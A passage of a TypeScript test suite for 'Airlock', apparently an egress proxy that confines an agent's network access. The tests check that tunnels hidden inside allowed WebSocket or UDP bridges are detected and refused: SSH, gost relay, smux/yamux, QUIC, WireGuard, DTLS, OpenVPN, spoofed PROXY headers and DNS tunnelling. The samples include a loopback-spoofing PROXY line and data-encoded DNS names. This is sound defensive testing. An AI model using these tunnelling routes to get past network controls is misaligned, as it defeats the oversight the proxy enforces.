    fc.constantFrom('', ' ', '\t', '  ', '\x0b', '\r', '+', ' +'), fc.constantFrom('', '0', '00'), fc.constantFrom(['2', '0'], ['2', '5'], ['2', '99'], ['1', '99'], ['1', '099']),
    fc.constantFrom('', ' ', '+'), fc.constantFrom('', 'x\r\n', 'hello\n'), fc.array(fc.nat(), { maxLength: 3 }),
    (b1, zeros, [major, minor], b2, before, cuts) => {
      const stream = Buffer.from(`${before}SSH-${b1}${zeros}${major}.${b2}${minor}-OpenSSH_9.6\r\n`, 'latin1');
      const { found, points } = scanCut(stream, cuts);
      if (found !== 'an SSH session') throw new Error(`${JSON.stringify(stream.toString('latin1'))} cut at ${points.join(',')}: ${found}`);
    },
  ), { numRuns: numRuns * 4, ...seed });
  // Controls: versions sshd refuses, a line without the dot, prose.
  for (const m of ['SSH-3.0-x\r\n', 'SSH-1.5-x\r\n', 'SSH-2-x\r\n', 'SSH-x.0-y\n', 'SSH is fine\n', 'ssh-2.0 notes\n', 'SSH-12.0-x\n', 'SSH--2.0-x\n']) {
    t.equal(new InnerSessionScan().read(Buffer.from(m)), undefined, JSON.stringify(m));
  }
  t.end();
});

t.test('twenty-second pass: gost\'s relay request and a smux or yamux session at a tunnel\'s start are never relayed', async (t) => {
  // gost's `relay+ws` server dials the address its request names (as its SOCKS one does), and
  // `socks5+mws`, kcptun, frp and trojan-go run smux or yamux inside the WebSocket, each stream a
  // SOCKS request, a relay request or a database session at its own start. The bytes below are
  // what go-gost/relay's Request.WriteTo, xtaci/smux 1.5 (v1 and v2) and hashicorp/yamux 0.1
  // wrote for them (a stream opened, a SOCKS 5 greeting written on it).
  const real = {
    'relay-auth': '0101001b01000401750170020011030d61646d696e2e6578616d706c650016',
    'relay-ip-udp': '0101000f020007010a00000515380400020001',
    'smux-v1': '01000000030000000102030003000000050100',
    'smux-v2': '02000000030000000202030003000000050100',
    yamux: '000100010000000100000000000000000000000100000003050100',
  };
  const feature = (type: number, data: Buffer): Buffer => Buffer.concat([Buffer.from([type, data.length >> 8, data.length & 0xff]), data]);
  const relayReq = (cmd: number, features: Buffer[]): Buffer => {
    const f = Buffer.concat(features);
    return Buffer.concat([Buffer.from([1, cmd, f.length >> 8, f.length & 0xff]), f]);
  };
  const addr = (kind: 'name' | 'v4' | 'v6', port: number): Buffer => {
    const p = Buffer.from([port >> 8, port & 0xff]);
    if (kind === 'v4') return feature(2, Buffer.concat([Buffer.from([1, 10, 0, 0, 5]), p]));
    if (kind === 'v6') return feature(2, Buffer.concat([Buffer.from([4]), Buffer.alloc(15), Buffer.from([1]), p]));
    return feature(2, Buffer.concat([Buffer.from([3, 13]), Buffer.from('admin.example'), p]));
  };
  const user = (u: string, pw: string): Buffer => feature(1, Buffer.concat([Buffer.from([u.length]), Buffer.from(u), Buffer.from([pw.length]), Buffer.from(pw)]));
  fc.assert(fc.property(
    fc.constantFrom(0x01, 0x02, 0x03, 0x81), fc.constantFrom<'name' | 'v4' | 'v6'>('name', 'v4', 'v6'), fc.integer({ min: 1, max: 65535 }),
    fc.constantFrom('none', 'user', 'long-users', 'network', 'tunnel'), fc.boolean(), fc.array(fc.nat(), { maxLength: 4 }), fc.boolean(),
    (cmd, kind, port, extra, dataAfter, cuts, emptyFirst) => {
      // gost takes the last address: users of 255-byte names and passwords put before it push it far from the start.
      const before = extra === 'user' ? [user('u', 'p')] : extra === 'long-users' ? Array.from({ length: 3 }, () => user('u'.repeat(255), 'p'.repeat(255))) : [];
      const after = extra === 'network' ? [feature(4, Buffer.from([0, 1]))] : extra === 'tunnel' ? [feature(3, Buffer.alloc(16, 7))] : [];
      const stream = Buffer.concat([relayReq(cmd, [...before, addr(kind, port), ...after]), dataAfter ? Buffer.from('hello') : Buffer.alloc(0)]);
      const { found, points } = scanCut(stream, cuts, emptyFirst);
      if (found !== 'a relay request (gost)' && found !== 'a Wisp proxy request') throw new Error(`${stream.subarray(0, 40).toString('hex')} cut at ${points.join(',')}: ${found}`);
    },
  ), { numRuns: numRuns * 4, ...seed });
  fc.assert(fc.property(fc.constantFrom(...Object.entries(real)), fc.array(fc.nat(), { maxLength: 4 }), ([name, hex], cuts) => {
    const { found, points } = scanCut(Buffer.from(hex, 'hex'), cuts);
    const want = name.startsWith('relay') ? 'a relay request (gost)' : 'a multiplexed session (smux or yamux)';
    // (A piece cut so that it is a whole Wisp CONNECT by itself is refused as one: twenty-third pass.)
    if (found !== want && found !== 'a Wisp proxy request') throw new Error(`${name} cut at ${points.join(',')}: ${found}`);
  }), { numRuns: numRuns * 2, ...seed });
  // Controls: a relay-like start naming nothing or with a feature gost does not know, a TDS batch
  // and pre-login, PostgreSQL's SSLRequest and startup, a MongoDB header, MySQL's handshake
  // response, a Redis multibulk, a CQL startup, binary data starting 01 01 or 00 00.
  const pgStartup = Buffer.concat([Buffer.from([0, 0, 0, 41, 0, 3, 0, 0]), Buffer.from('user\0abcd\0database\0postgres\0\0')]);
  for (const msgs of [[relayReq(1, [user('u', 'p')])], [relayReq(1, [feature(9, Buffer.from([3, 1, 97, 0, 22]))])], [Buffer.from('0101002c0000010016000000120000000200000000000000000001000000', 'hex')],
    [Buffer.from('1201002f0000010000001a00060100200001020021000103002200040400260001ff', 'hex')], [Buffer.from('0000000804d2162f', 'hex'), pgStartup], [pgStartup],
    [Buffer.from('3a000000010000000000000000dd0700', 'hex')], [mysqlHandshake()], [Buffer.from('*1\r\n$4\r\nPING\r\n')], [Buffer.from('0400000001000000160001000b43514c5f56455253494f4e0005332e302e30', 'hex')],
    [Buffer.from('0101ffff00', 'hex'), Buffer.alloc(64, 0xab)], [Buffer.from('0000000000000000000000000000', 'hex')], [Buffer.from('0100000000000000', 'hex')]]) {
    const scan = new InnerSessionScan();
    t.equal(msgs.map((m) => scan.read(m)).find(Boolean), undefined, msgs.map((m) => m.toString('hex').slice(0, 40)).join(' '));
  }

  // Live: a relay server (as gost's relay handler: read the request, dial its address) behind a bridge.
  const dialled: string[] = [];
  const relayServer = net.createServer((s) => {
    s.on('error', () => undefined);
    s.once('data', (req: Buffer) => {
      const at = req.indexOf(Buffer.from([2, 0]), 4);
      dialled.push(req.subarray(at + 5, at + 5 + req[at + 4]!).toString());
      s.end(Buffer.from([1, 0, 0, 0]));
    });
  });
  await new Promise<void>((r) => relayServer.listen(0, '127.0.0.1', r));
  t.teardown(() => relayServer.close());
  const bridge = await tcpBridge(t, (relayServer.address() as net.AddressInfo).port);
  process.env.AIRLOCK_MASTER_KEY ??= '3c'.repeat(32);
  const a = await startTestAirlock(t, { policy: 'streams', resolve: ['allowed.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${bridge.port}`] });
  for (const hex of [real['relay-auth'], real['smux-v1']]) {
    const r = await bridgeSession(bridge, a.proxyUrl, 'allowed.example', [Buffer.from(hex, 'hex')], 'latin1');
    t.equal(r.code, 1008, `the tunnel is closed at ${hex.slice(0, 16)}…`);
  }
  await new Promise((res) => setTimeout(res, 100));
  t.same(dialled, [], 'the relay server was never asked for admin.example');
  t.ok(a.records.some((r) => /relay request \(gost\)/.test(String(r.detail ?? ''))), 'the refusal is audited and names the relay request');
});

t.test('twenty-fourth pass: a bridge target under a name spelled another way, a MASQUE template, or a stream URL under any name is decided', async (t) => {
  // A bridge takes its destination under names the lists did not hold as spelled: `target_host`
  // and `target_port` (RFC 9298's URI template variables, which MASQUE-style bridges copy), its
  // short `?h=&p=`, `dst`, `Remote-Addr`, `target[]`, `connect`, `forward`; a path of `host:port`
  // after `/tcp/`; MASQUE's IP proxying path; a `tcp://` or `ssh://` URL under a name of its own.
  const hosts = fc.constantFrom('admin.example', '10.0.0.5', '[::1]');
  fc.assert(fc.property(
    fc.constantFrom('target_host', 'TARGET-HOST', 'targetHost', 'dst', 'dst_host', 'Dest.Addr', 'remote-addr', 'target[]', 'target_address', 'connect', 'forward'),
    fc.constantFrom('target_port', 'dst_port', 'Target-Port', 'dport'), hosts, fc.integer({ min: 1, max: 65535 }),
    (name, portName, host, port) => {
      const url = `ws://allowed.example/masque?${encodeURIComponent(name)}=${encodeURIComponent(host)}&${portName}=${port}`;
      const found = bridgeTargets([], url);
      if (!Array.isArray(found) || found.length !== 1 || found[0]!.request.url !== `ws://${host}:${port}/`) throw new Error(`${url}: ${JSON.stringify(found)}`);
    },
  ), { numRuns, ...seed });
  for (const [url, want] of [
    ['ws://allowed.example/masque?h=admin.example&p=443', 'ws://admin.example:443/'],
    ['ws://allowed.example/.well-known/masque/udp/admin.example/53/', 'ws://admin.example:53/'],
    ['ws://allowed.example/.well-known/masque/ip/admin.example/6/', 'ws://admin.example/'],
    ['ws://allowed.example/.well-known/masque/ip/10.0.0.5/%2A/', 'ws://10.0.0.5/'],
    ['ws://allowed.example/tcp/admin.example:22', 'ws://admin.example:22/'],
    ['ws://allowed.example/udp/admin.example%3A53/', 'ws://admin.example:53/'],
    ['ws://allowed.example/ws?url=tcp://admin.example:22', 'ws://admin.example:22/'],
    ['ws://allowed.example/ws?to=ssh://root@admin.example', 'ws://admin.example/'],
    ['ws://allowed.example/ws?dsn=postgres://u:p@db.internal:5432/app', 'ws://db.internal:5432/'],
  ] as const) {
    const found = bridgeTargets([], url);
    t.equal(Array.isArray(found) ? found.map((f) => f.request.url).join(' ') : JSON.stringify(found), want, url);
  }
  // Controls: a video's `?h=720&p=2`, a page's address under `url`, a chat's `?to=alice`, flags, a malformed escape.
  for (const url of ['ws://allowed.example/play?h=720&p=2', 'ws://allowed.example/ws?url=https://docs.example:8443/a', 'ws://allowed.example/chat?to=alice',
    'ws://allowed.example/ws?forward=true&connect=1', 'ws://allowed.example/tcp/%E0%A4%A/x', 'ws://allowed.example/ws?h=admin.example']) {
    t.equal(bridgeTargets([], url), undefined, url);
  }
});

t.test('twenty-second pass: a bridge target without a port, or in the Referer\'s query as WeTTY reads it, is decided as a request to it', async (t) => {
  // Left open by the twenty-first pass: a host without a port named no bridge target, though a
  // bridge dials it at its own default (WeTTY: `?host=admin.example` is ssh to port 22), and WeTTY
  // takes `host`, `port` (and `pass`, `command`) from the query of the socket's Referer, which was not read.
  fc.assert(fc.property(
    fc.constantFrom('host', 'HOST', 'target', 'remote', 'dest', 'addr'), fc.constantFrom('admin.example', 'admin.example.', '10.0.0.5', '::1', '[::1]', 'localhost'),
    fc.constantFrom('query', 'referer', 'referer-eio'), fc.constantFrom('', '&user=root', '&port=22'),
    (name, host, place, more) => {
      const query = `?${name}=${encodeURIComponent(host)}${more}`;
      const url = place === 'query' ? `ws://allowed.example/ws${query}` : place === 'referer' ? 'ws://allowed.example/wetty/socket.io/?EIO=4&transport=websocket' : 'http://allowed.example/wetty/socket.io/?EIO=4&transport=polling';
      const headers = place === 'query' ? [] : ['Referer', `https://allowed.example/wetty/ssh/root${query}`];
      const found = bridgeTargets(headers, url);
      const want = `ws://${isIPv6Literal(host) ? `[${host.replace(/^\[|\]$/g, '')}]` : host}${more === '&port=22' ? ':22' : ''}/`;
      if (!Array.isArray(found) || found.length !== 1 || found[0]!.request.url !== want) throw new Error(`${place} ${url} ${headers.join(': ')} ${JSON.stringify(found)}`);
    },
  ), { numRuns: numRuns * 4, ...seed });
  // A target written as a URL names its authority.
  for (const [v, want] of [['tcp://admin.example:22', 'ws://admin.example:22/'], ['ssh://root@admin.example/', 'ws://admin.example/'], ['TCP://[::1]:5432', 'ws://[::1]:5432/'], ['mysql://u:p@10.0.0.5:3306/db?x=1', 'ws://10.0.0.5:3306/']]) {
    const found = bridgeTargets([], `ws://allowed.example/ws?target=${encodeURIComponent(v!)}`);
    t.equal(Array.isArray(found) ? found[0]?.request.url : JSON.stringify(found), want, `?target=${v}`);
  }
  // Twenty-seventh pass: a single label under a name that means only where to dial (a bridge's own network: `db`, `redis-master`).
  fc.assert(fc.property(fc.constantFrom('target', 'Target', 'dest', 'destination', 'remote', 'upstream', 'dst', 'target_host', 'remote-host', 'DstHost'),
    fc.constantFrom('db', 'redis-master', 'postgres', 'admin', 'SSH-box', 'x1'), fc.constantFrom('query', 'referer'), (name, host, place) => {
      const url = place === 'query' ? `ws://allowed.example/ws?${name}=${host}` : 'ws://allowed.example/wetty/socket.io/?EIO=4&transport=websocket';
      const found = bridgeTargets(place === 'query' ? [] : ['Referer', `https://allowed.example/app?${name}=${host}`], url);
      if (!Array.isArray(found) || found.length !== 1 || found[0]!.request.url.toLowerCase() !== `ws://${host.toLowerCase()}/`) throw new Error(`${url}: ${JSON.stringify(found)}`);
    }), { numRuns: numRuns * 2, ...seed });
  for (const q of ['dest=2', 'target=', 'page=2&dest=10', 'host=eu1&room=lobby', 'address=bob', 'target=_blank', 'remote=true', 'upstream=auto']) t.equal(bridgeTargets([], `ws://allowed.example/ws?${q}`), undefined, `?${q} names no target`);
  // Controls: words of chats and games, a wallet address, a Referer naming nothing.
  for (const [url, headers] of [['ws://allowed.example/ws?host=eu1', []], ['ws://allowed.example/chat?to=alice', []], ['ws://allowed.example/sub?address=0x52908400098527886E0F7030069857D2E4169EE7', []],
    ['ws://allowed.example/ws', ['Referer', 'https://allowed.example/app?tab=2']], ['ws://allowed.example/ws', ['Referer', 'not a url']]] as const) {
    t.equal(bridgeTargets([...headers], url), undefined, `${url} ${headers.join(': ')}`);
  }

  // Live: a WeTTY-like bridge: ssh (here a TCP service) to the Referer's ?host= at its default port.
  const got: string[] = [];
  const service = net.createServer((s) => s.on('data', (d) => got.push(d.toString('latin1'))));
  await new Promise<void>((r) => service.listen(0, '127.0.0.1', r));
  t.teardown(() => service.close());
  const asked: string[] = [];
  const dial = (referer: string | undefined): net.Socket | undefined => {
    const host = referer ? new URL(referer).searchParams.get('host') : null;
    if (!host) return undefined;
    asked.push(host);
    return net.connect((service.address() as net.AddressInfo).port, '127.0.0.1');
  };
  const bridge = await startWsUpstream(t, {
    onConnection: (ws, req) => {
      const s = dial(req.headers.referer);
      if (!s) return;
      s.on('error', () => ws.terminate());
      ws.on('message', (d: Buffer) => s.write(d));
      ws.on('close', () => s.end());
    },
  });
  const polling = http.createServer((req, res) => {
    dial(req.headers.referer)?.end('id\n');
    res.end('0{"sid":"x"}');
  });
  await new Promise<void>((r) => polling.listen(0, '127.0.0.1', r));
  t.teardown(() => polling.close());
  const pollPort = (polling.address() as net.AddressInfo).port;
  process.env.AIRLOCK_MASTER_KEY ??= '3c'.repeat(32);
  const a = await startTestAirlock(t, { policy: 'streams', resolve: ['allowed.example=127.0.0.1', 'admin.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${bridge.port}`, `127.0.0.1:${pollPort}`] });
  const open = (path: string, referer: string): Promise<number | 'open'> => new Promise((resolve) => {
    const ws = new WebSocket(`ws://allowed.example:${bridge.port}${path}`, [], { agent: new HttpProxyAgent(a.proxyUrl), perMessageDeflate: false, headers: { Referer: referer } });
    ws.on('open', () => { ws.send('id\n'); setTimeout(() => { ws.close(); resolve('open'); }, 100); });
    ws.on('unexpected-response', (_req, res) => { res.resume(); resolve(res.statusCode ?? 0); });
    ws.on('error', () => resolve(-1));
    setTimeout(() => { ws.terminate(); resolve(0); }, 8000).unref();
  });
  const poll = (referer: string) => curl(['-o', '/dev/null', '-w', '%{http_code}', '-x', a.proxyUrl, '-e', referer, `http://allowed.example:${pollPort}/wetty/socket.io/?EIO=4&transport=polling`]);
  t.equal(await open('/wetty/socket.io/?EIO=4&transport=websocket', 'https://allowed.example/wetty/ssh/root?host=admin.example'), 403, 'the upgrade whose Referer names admin.example is refused');
  t.equal(await open('/ws?host=admin.example', 'https://allowed.example/'), 403, 'a port-less ?host= in the upgrade is refused');
  t.equal((await poll('https://allowed.example/wetty/ssh/root?host=admin.example')).stdout, '403', 'socket.io\'s polling handshake naming admin.example is refused');
  t.same(asked, [], 'the bridge was never asked to dial admin.example');
  t.same(got, [], 'the service behind it got nothing');
  // Controls: the allowed host named so; a Referer naming nothing.
  t.equal(await open('/wetty/socket.io/?EIO=4&transport=websocket', 'https://allowed.example/wetty/ssh/root?host=allowed.example'), 'open', 'a Referer naming the allowed host');
  t.equal((await poll('https://allowed.example/wetty/')).stdout, '200', 'a polling handshake naming no host');
});

/** A bare or bracketed IPv6 literal. */
const isIPv6Literal = (h: string): boolean => net.isIPv6(h.replace(/^\[|\]$/g, ''));

t.test('twenty-second pass: DTLS, QUIC and WireGuard handshakes through a UDP bridge are never relayed', async (t) => {
  // A UDP-over-WebSocket bridge (wstunnel's `udp://`: each message a datagram) lets the agent run
  // DTLS, QUIC (HTTP/3) or WireGuard to the service behind it: everything after the hello is ciphertext.
  // QUIC's Initial as golang.org/x/net/quic wrote it: a long header (type Initial, its low bits
  // under header protection), version, 8-byte connection ids, no token, a 2-byte length, 1,200 bytes in all.
  const initial = (first: number, version: number, dcid: number, scid: number, token: number, size: number): Buffer => {
    const head = Buffer.concat([Buffer.from([first]), Buffer.from([version >>> 24, (version >>> 16) & 0xff, (version >>> 8) & 0xff, version & 0xff]),
      Buffer.from([dcid]), Buffer.alloc(dcid, 0x41), Buffer.from([scid]), Buffer.alloc(scid, 0x42), Buffer.from([token]), Buffer.alloc(token, 0x43)]);
    const rest = size - head.length - 2;
    return Buffer.concat([head, Buffer.from([0x40 | (rest >> 8), rest & 0xff]), crypto.randomBytes(rest)]);
  };
  fc.assert(fc.property(
    fc.constantFrom([0xc0, 1], [0xd0, 0x6b3343cf], [0xc0, 0xff00001d]), fc.integer({ min: 0, max: 15 }), fc.integer({ min: 8, max: 20 }), fc.integer({ min: 0, max: 20 }),
    fc.constantFrom(0, 16), fc.integer({ min: 1200, max: 1500 }), fc.array(fc.uint8Array({ minLength: 1, maxLength: 60 }), { maxLength: 3 }),
    ([type, version], low, dcid, scid, token, size, before) => {
      const scan = new InnerSessionScan();
      const earlier = before.map((d) => scan.read(Buffer.from(d))).find(Boolean);
      const found = earlier ?? scan.read(initial(type! | low, version!, dcid, scid, token, size));
      if (found !== 'a QUIC handshake' && !earlier) throw new Error(`${version!.toString(16)} ${dcid}/${scid}/${token} ${size}: ${found}`);
    },
  ), { numRuns: numRuns * 4, ...seed });
  // WireGuard's handshake initiation (a VPN through the bridge), first or after other datagrams.
  for (const before of [[], [Buffer.from('hello')]]) {
    const scan = new InnerSessionScan();
    const found = [...before, Buffer.concat([Buffer.from([1, 0, 0, 0]), crypto.randomBytes(144)])].map((d) => scan.read(d)).find(Boolean);
    t.equal(found, 'a WireGuard handshake', `WireGuard's initiation after ${before.length} datagrams`);
  }
  // Twenty-fourth pass (a false close): a compressed gRPC message of 143 bytes (flag 1, length
  // 143: 148 bytes in all, as WireGuard's initiation is) is a gzip member to its end, which no
  // initiation's ciphertext can be; an initiation whose sender index spells gRPC's length and
  // gzip's magic (`8f 1f 8b 08`: an agent's own client chooses it) is still one.
  const grpc143 = (): Buffer => {
    for (let i = 0; i < 400; i++) {
      const z = zlib.gzipSync(Buffer.concat([Buffer.from([0x0a, 100 + (i % 20)]), crypto.randomBytes(100 + (i % 20))]), { level: i % 10 });
      if (z.length === 143) return Buffer.concat([Buffer.from([1, 0, 0, 0, 143]), z]);
    }
    throw new Error('no 143-byte gzip member');
  };
  for (let i = 0; i < 4; i++) t.equal(new InnerSessionScan().read(grpc143()), undefined, `a compressed gRPC message of 143 bytes (${i})`);
  // The same false close at a stream's start: a compressed gRPC message under 256 bytes
  // (`01 00 00 00 <length>`) read as smux's SYN; smux's next header (the same version, a command
  // 0–4) is asked where the message goes on, as a smux server asks it (the real sessions above keep it).
  fc.assert(fc.property(fc.uint8Array({ maxLength: 180 }), fc.integer({ min: 0, max: 9 }), (body, level) => {
    const z = zlib.gzipSync(body, { level });
    if (z.length > 250) return;
    const found = new InnerSessionScan().read(Buffer.concat([Buffer.from([1, 0, 0, 0, z.length]), z]));
    if (found !== undefined) throw new Error(`a compressed gRPC message of ${z.length} bytes: ${found}`);
  }), { numRuns, ...seed });
  for (const mac2 of [Buffer.alloc(16), crypto.randomBytes(16)]) {
    const crafted = Buffer.concat([Buffer.from([1, 0, 0, 0, 0x8f, 0x1f, 0x8b, 0x08]), crypto.randomBytes(124), mac2]);
    t.equal(new InnerSessionScan().read(crafted), 'a WireGuard handshake', 'an initiation whose sender index reads as gRPC and gzip');
  }
  // Controls: QUIC-like datagrams a server drops (under 1,200 bytes, an unknown version), a
  // short-header packet, a DNS query, a STUN binding request.
  for (const d of [initial(0xc0, 1, 8, 8, 0, 1199), initial(0xc0, 0x0a0a0a0a, 8, 8, 0, 1200), Buffer.concat([Buffer.from([0x41]), crypto.randomBytes(1250)]),
    Buffer.from('12340100000100000000000007616c6c6f776564076578616d706c650000010001', 'hex'), Buffer.from('000100002112a442', 'hex')]) {
    t.equal(new InnerSessionScan().read(d), undefined, d.subarray(0, 12).toString('hex'));
  }

  // Live: OpenSSL's DTLS client through a UDP bridge (its datagrams sent as messages through
  // Airlock, each written by the bridge to a UDP service), cut anywhere in process too.
  const service = dgram.createSocket('udp4');
  const got: Buffer[] = [];
  service.on('message', (m) => got.push(m));
  await new Promise<void>((r) => service.bind(0, '127.0.0.1', r));
  t.teardown(() => service.close());
  const bridge = await startWsUpstream(t, {
    onConnection: (ws) => {
      const out = dgram.createSocket('udp4');
      ws.on('message', (d: Buffer) => out.send(d, service.address().port, '127.0.0.1'));
      ws.on('close', () => out.close());
    },
  });
  process.env.AIRLOCK_MASTER_KEY ??= '3c'.repeat(32);
  const a = await startTestAirlock(t, { policy: 'streams', resolve: ['allowed.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${bridge.port}`] });
  const front = dgram.createSocket('udp4');
  await new Promise<void>((r) => front.bind(0, '127.0.0.1', r));
  t.teardown(() => front.close());
  const hellos: Buffer[] = [];
  const code = await new Promise<number>((resolve) => {
    const ws = new WebSocket(`ws://allowed.example:${bridge.port}/udp`, [], { agent: new HttpProxyAgent(a.proxyUrl), perMessageDeflate: false });
    ws.on('open', () => {
      front.on('message', (m) => { hellos.push(m); if (ws.readyState === WebSocket.OPEN) ws.send(m, { binary: true }); });
      const client = spawn('openssl', ['s_client', '-dtls1_2', '-connect', `127.0.0.1:${front.address().port}`], { stdio: ['pipe', 'ignore', 'ignore'] });
      t.teardown(() => void client.kill());
    });
    ws.on('close', (c) => resolve(c));
    ws.on('error', () => resolve(-1));
    setTimeout(() => { ws.terminate(); resolve(0); }, 8000).unref();
  });
  t.equal(code, 1008, 'the tunnel is closed at the DTLS hello');
  t.ok(hellos.length > 0 && hellos[0]![0] === 0x16 && hellos[0]![1] === 0xfe, 'OpenSSL sent a DTLS hello');
  const { found, points } = scanCut(hellos[0]!, [5, 13, 40]);
  t.equal(found, 'a DTLS handshake', `the hello cut at ${points.join(',')} is seen too`);
  await new Promise((res) => setTimeout(res, 100));
  t.same(got, [], 'the UDP service behind the bridge got nothing');
  // Control: other datagrams go on.
  const dns = await bridgeSession(bridge, a.proxyUrl, 'allowed.example', [Buffer.from('12340100000100000000000007616c6c6f776564076578616d706c650000010001', 'hex')], 'latin1');
  t.not(dns.code, 1008, 'a DNS query goes on');

  // Twenty-seventh pass: DNS through the bridge to a resolver is a channel to any domain (dnstt's
  // data in the names): each name a query asks about is decided as a request to that host. Node's
  // own resolver (c-ares) asks through the bridge; also DNS over TCP's framing and iodine's raw labels.
  got.length = 0;
  const front2 = dgram.createSocket('udp4');
  await new Promise<void>((r) => front2.bind(0, '127.0.0.1', r));
  t.teardown(() => front2.close());
  const asked = await new Promise<{ code: number; sent: number }>((resolve) => {
    const ws = new WebSocket(`ws://allowed.example:${bridge.port}/udp`, [], { agent: new HttpProxyAgent(a.proxyUrl), perMessageDeflate: false });
    let sent = 0;
    ws.on('open', () => {
      front2.on('message', (m) => { sent++; if (ws.readyState === WebSocket.OPEN) ws.send(m, { binary: true }); });
      const resolver = new dnsPromises.Resolver({ timeout: 300, tries: 1 });
      resolver.setServers([`127.0.0.1:${front2.address().port}`]);
      resolver.resolveTxt('nbswy3dpeb3w64tmmq.t.admin.example').catch(() => undefined);
    });
    ws.on('close', (c) => resolve({ code: c, sent }));
    ws.on('error', () => resolve({ code: -1, sent }));
    setTimeout(() => { ws.terminate(); resolve({ code: 0, sent }); }, 8000).unref();
  });
  t.ok(asked.sent > 0, 'the resolver sent its query through the bridge');
  t.equal(asked.code, 1008, 'a query for a name under a denied domain closes the tunnel');
  const tcpQuery = dnsQuery(['nbswy3dp.t.admin.example']);
  const framed = Buffer.concat([Buffer.from([tcpQuery.length >> 8, tcpQuery.length & 0xff]), tcpQuery]);
  for (const [what, m] of [['over TCP\'s framing', framed], ['with an 8-bit label (iodine)', dnsQuery(['a\x80\xff\x01b.t.allowed.example'])]] as const) {
    t.equal((await bridgeSession(bridge, a.proxyUrl, 'allowed.example', [m], 'latin1')).code, 1008, `a DNS query ${what} closes the tunnel`);
  }
  await new Promise((res) => setTimeout(res, 100));
  t.same(got, [], 'the resolver behind the bridge was never asked');
  // (The service answers nothing: the socket is closed by the client after a moment, not by Airlock.)
  const allowedLookup = await new Promise<number>((resolve) => {
    const ws = new WebSocket(`ws://allowed.example:${bridge.port}/udp`, [], { agent: new HttpProxyAgent(a.proxyUrl), perMessageDeflate: false });
    ws.on('open', () => { ws.send(dnsQuery(['allowed.example'], 1), { binary: true }); setTimeout(() => ws.close(1000), 300); });
    ws.on('close', (c) => resolve(c));
    ws.on('error', () => resolve(-1));
  });
  t.equal(allowedLookup, 1000, 'a lookup of an allowed host goes on');
  t.equal(got.length, 1, 'and reaches the resolver');
  for (let i = 0; i < 3; i++) {
    // (Random datagrams are no DNS query: a query whole is read, nothing less.)
    t.equal(dnsQueryNames(crypto.randomBytes(40 + i * 30)), undefined, `random bytes ${i} are no query`);
  }
});

t.test('twenty-second pass: a PROXY protocol header at a tunnel\'s start is never relayed', async (t) => {
  // A service behind the bridge that reads the client's address from a PROXY header (HAProxy's
  // `accept-proxy`, nginx's `proxy_protocol`, a service behind wstunnel's `proxy_protocol`) took
  // the agent's word for it: `PROXY TCP4 127.0.0.1 …` to a service trusting loopback.
  const v2 = (family: number): Buffer => Buffer.concat([Buffer.from('0d0a0d0a000d0a515549540a', 'hex'), Buffer.from([0x21, family, 0, 12, 127, 0, 0, 1, 10, 0, 0, 5, 0x30, 0x39, 0, 22])]);
  fc.assert(fc.property(
    fc.constantFrom('PROXY TCP4 127.0.0.1 10.0.0.5 12345 22\r\n', 'PROXY TCP6 ::1 ::1 12345 22\r\n', 'PROXY UNKNOWN\r\n'), fc.constantFrom('', 'SSH-?', 'hello'), fc.boolean(), fc.array(fc.nat(), { maxLength: 4 }), fc.boolean(),
    (line, after, binary, cuts, emptyFirst) => {
      const stream = binary ? Buffer.concat([v2(0x11), Buffer.from(after)]) : Buffer.from(line + after);
      const { found, points } = scanCut(stream, cuts, emptyFirst);
      if (found !== 'a PROXY protocol header') throw new Error(`${JSON.stringify(stream.toString('latin1'))} cut at ${points.join(',')}: ${found}`);
    },
  ), { numRuns: numRuns * 4, ...seed });
  // Controls: prose beginning with the word, a PROXY line after the start, CRLF then text.
  for (const msgs of [['PROXY settings are fine\n'], ['hello\n', 'PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n'], ['\r\n\r\nhello'], ['proxy tcp4 x\n']]) {
    const scan = new InnerSessionScan();
    t.equal(msgs.map((m) => scan.read(Buffer.from(m))).find(Boolean), undefined, JSON.stringify(msgs));
  }
  // Live: a service behind a bridge that trusts the PROXY header's source (admin for loopback).
  const admin: string[] = [];
  const service = net.createServer((s) => {
    s.on('error', () => undefined);
    s.once('data', (d: Buffer) => {
      const m = /^PROXY TCP4 (\S+) /.exec(d.toString('latin1'));
      if (m?.[1] === '127.0.0.1') admin.push(d.toString('latin1'));
      s.end();
    });
  });
  await new Promise<void>((r) => service.listen(0, '127.0.0.1', r));
  t.teardown(() => service.close());
  const bridge = await startWsUpstream(t, {
    onConnection: (ws) => {
      const s = net.connect((service.address() as net.AddressInfo).port, '127.0.0.1');
      s.on('error', () => ws.terminate());
      ws.on('message', (d: Buffer) => s.write(d));
      ws.on('close', () => s.end());
    },
  });
  process.env.AIRLOCK_MASTER_KEY ??= '3c'.repeat(32);
  const a = await startTestAirlock(t, { policy: 'streams', resolve: ['allowed.example=127.0.0.1'], allowPrivate: [`127.0.0.1:${bridge.port}`] });
  const r = await bridgeSession(bridge, a.proxyUrl, 'allowed.example', [Buffer.from('PROXY TCP4 127.0.0.1 127.0.0.1 40000 22\r\nDELETE all\r\n')], 'latin1');
  t.equal(r.code, 1008, 'the tunnel is closed at the PROXY header');
  await new Promise((res) => setTimeout(res, 100));
  t.same(admin, [], 'the service never took the agent for loopback');
});

t.test('twenty-third pass: OpenVPN\'s first packet through a UDP or TCP bridge is never relayed', async (t) => {
  // Left open by the twenty-second pass: a VPN behind a bridge (wstunnel's `udp://` or `tcp://`)
  // carries every request after its handshake as ciphertext. OpenVPN's client hard reset, in the
  // layouts OpenVPN 2.6 writes (as 2.6.14 wrote them: no control-channel key, tls-auth with an
  // HMAC of any size, tls-crypt, tls-crypt-v2 with early negotiation), as a datagram or with TCP's
  // 2-byte length at the stream's start, cut anywhere.
  const reset = (opcode: number, layout: string, pid: number): Buffer => {
    const sid = crypto.randomBytes(8);
    const time = Buffer.alloc(4);
    time.writeUInt32BE(Math.floor(Date.now() / 1000));
    const id = Buffer.from([pid, 0, 0, 1]);
    const tail = Buffer.alloc(5);
    if (layout === 'plain') return Buffer.concat([Buffer.from([opcode]), sid, tail]);
    if (layout === 'crypt') return Buffer.concat([Buffer.from([opcode]), sid, id, time, crypto.randomBytes(32 + 5 + (opcode === 0x50 ? 290 : 0))]);
    return Buffer.concat([Buffer.from([opcode]), sid, crypto.randomBytes(Number(layout)), id, time, tail]);
  };
  fc.assert(fc.property(
